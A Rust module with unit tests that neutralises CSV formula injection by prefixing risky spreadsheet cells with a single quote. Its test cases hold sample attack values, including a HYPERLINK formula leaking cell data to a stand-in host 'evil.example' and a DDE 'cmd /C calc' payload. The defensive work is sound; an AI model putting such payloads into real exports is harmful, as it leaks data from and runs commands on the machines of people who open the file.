//! CSV cells a spreadsheet will not execute (OWASP "CSV Injection").
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`,
//! `-` or `@` as a formula (tab and CR lead to the same on some of them), so a
//! region typed into the public form as `=HYPERLINK(…)` would become a live
//! link in a staff member's spreadsheet. Every CSV willay writes for people to
//! open passes its cells through [`neutralise`], which prefixes such a cell
//! with a single quote — the spreadsheet then shows it as text. A plain number
//! (`-3`, `+51`, `-0.5`) is left alone: it computes nothing and must stay a
//! number.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet may safely open it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// Writes one record with every cell neutralised.
pub fn write_record<W, I, T>(writer: &mut csv::Writer<W>, record: I) -> csv::Result<()>
where
    W: std::io::Write,
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    writer.write_record(record.into_iter().map(|cell| {
        let cell = cell.as_ref();
        neutralise(cell).into_owned()
    }))
}

/// An optional sign, digits, and at most one decimal point between digits:
/// `-3`, `+51`, `-0.5`. Not `-inf`, `-1e9` or `--1`, which a sheet may read otherwise.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = match digits.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        let cases = [
            // (cell, written as)
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")"#,
            ),
            ("=1+1", "'=1+1"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-1e9", "'-1e9"),
            ("--1", "'--1"),
            ("-.5", "'-.5"),
            ("-3.", "'-3."),
            // Plain numbers and ordinary text are untouched.
            ("-3", "-3"),
            ("+51", "+51"),
            ("-0.5", "-0.5"),
            ("42", "42"),
            ("Huancavelica", "Huancavelica"),
            ("a=b", "a=b"),
            (" =1+1", " =1+1"),
            ("", ""),
            ("'already quoted", "'already quoted"),
        ];
        for (cell, expected) in cases {
            assert_eq!(neutralise(cell), expected, "{cell:?}");
        }
    }

    #[test]
    fn a_record_is_written_neutralised_and_still_quoted() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        write_record(&mut writer, ["region", "=1+1", "-3", "a,b"]).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(text, "region,'=1+1,-3,\"a,b\"\n");
    }
}
